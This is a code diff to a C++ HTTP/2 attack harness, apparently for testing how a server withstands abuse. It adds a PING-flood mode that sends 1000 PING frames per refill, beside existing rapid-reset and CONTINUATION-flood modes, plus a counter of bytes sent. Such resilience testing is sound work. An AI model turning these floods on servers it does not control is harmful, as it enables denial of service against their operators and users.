@@ -51,6 +51,14 @@ std::string BegunAndReset(uint32_t* stream, bool whole) {
   return bytes;
 }
 
+std::string Pings() {
+  std::string bytes;
+  for (int i = 0; i < 1000; ++i) {
+    bytes += Http2Frame(kHttp2Ping, 0, 0, "payload!");
+  }
+  return bytes;
+}
+
 struct Connection {
   UniqueFd fd;
   std::string unsent;
@@ -73,7 +81,7 @@ class SocketAttack : public Attack {
     thread_.join();
   }
 
-  Count count() const override { return {opened_, closed_, 0}; }
+  Count count() const override { return {opened_, closed_, 0, sent_}; }
 
  private:
   void Run() {
@@ -97,7 +105,7 @@ class SocketAttack : public Attack {
     poll(entries.data(), entries.size(), kLookMs);
     for (size_t i = 0; i < connections_.size(); ++i) {
       if (entries[i + 1].revents == 0) continue;
-      if (IsClosed(&connections_[i])) {
+      if (IsClosed(entries[i + 1].revents, &connections_[i])) {
         connections_[i] = Connection();
         ++closed_;
       } else {
@@ -148,6 +156,7 @@ class SocketAttack : public Attack {
       case AttackKind::kResets:
       case AttackKind::kWholeResets:
       case AttackKind::kManyResets:
+      case AttackKind::kPings:
         return absl::StrCat(kHttp2Preface, Settings());
       default:
         return "";
@@ -170,7 +179,10 @@ class SocketAttack : public Attack {
     return bytes;
   }
 
-  static bool IsClosed(Connection* one) {
+  bool IsClosed(int happened, Connection* one) const {
+    if (kind_ == AttackKind::kPings) {
+      return (happened & (POLLHUP | POLLERR)) != 0;
+    }
     char data[4096];
     ssize_t size = 0;
     do {
@@ -186,7 +198,10 @@ class SocketAttack : public Attack {
     Refill(one);
     const ssize_t sent = send(one->fd.get(), one->unsent.data(),
                               one->unsent.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
-    if (sent > 0) one->unsent.erase(0, static_cast<size_t>(sent));
+    if (sent > 0) {
+      sent_ += sent;
+      one->unsent.erase(0, static_cast<size_t>(sent));
+    }
     Refill(one);
   }
 
@@ -196,6 +211,7 @@ class SocketAttack : public Attack {
       one->unsent =
           Http2Frame(kHttp2Continuation, 0, 1, std::string(16'384, 'a'));
     }
+    if (kind_ == AttackKind::kPings) one->unsent = Pings();
     if (one->half != nullptr) one->unsent = one->half->More();
     if (kind_ == AttackKind::kResets || kind_ == AttackKind::kManyResets) {
       one->unsent = BegunAndReset(&one->stream, /*whole=*/false);
@@ -213,6 +229,7 @@ class SocketAttack : public Attack {
   uint64_t drawn_ = 0;
   std::atomic<int64_t> opened_{0};
   std::atomic<int64_t> closed_{0};
+  std::atomic<int64_t> sent_{0};
   std::thread thread_;
 };
 
